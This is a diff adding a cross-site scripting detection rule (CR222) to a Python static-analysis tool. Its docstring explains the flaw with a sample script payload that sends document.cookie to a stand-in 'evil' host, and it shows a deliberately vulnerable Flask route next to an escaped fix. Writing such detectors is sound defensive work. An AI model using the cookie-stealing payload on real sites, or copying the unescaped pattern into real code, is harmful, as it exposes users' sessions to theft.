@@ -1,0 +1,54 @@
+"""CR222: untrusted input written into a page without escaping."""
+
+from __future__ import annotations
+
+from codereward.findings import Characteristic, Severity
+from codereward.rules.base import TaintRule, register
+
+
+@register
+class CrossSiteScripting(TaintRule):
+    """## What it does
+    Reports untrusted data that reaches an HTML response unescaped: the body given to
+    `make_response`, `Response`, Django's `HttpResponse`, `Markup`/`mark_safe`, and text
+    a Flask or FastAPI route builds and returns (`return "<h1>" + name`).
+
+    Source-to-sink tracking (shared by the injection rules): sanitizers on the way
+    and allow-list checks (`if value in ALLOWED:`) end the flow.
+
+    ## Why is this bad?
+    A value like `<script>fetch('//evil/?c='+document.cookie)</script>` runs in the
+    browser of everyone who views the page, with their session (cross-site scripting).
+
+    ## Example
+    ```python
+    from flask import Flask, request
+
+    app = Flask(__name__)
+
+    @app.route("/hello")
+    def hello():
+        return "<h1>Hello " + request.args.get("name", "") + "</h1>"
+    ```
+
+    ## Use instead
+    ```python
+    import html
+    from flask import Flask, request
+
+    app = Flask(__name__)
+
+    @app.route("/hello")
+    def hello():
+        return "<h1>Hello " + html.escape(request.args.get("name", "")) + "</h1>"
+    ```
+    """
+
+    id = "CR222"
+    name = "cross-site-scripting"
+    characteristic = Characteristic.SECURITY
+    cwe = 79
+    severity = Severity.HIGH
+    message = "Untrusted input written into a page without escaping"
+    kinds = ('xss',)
+    advice = 'escape it with `html.escape`/`markupsafe.escape`, or render a template that escapes'
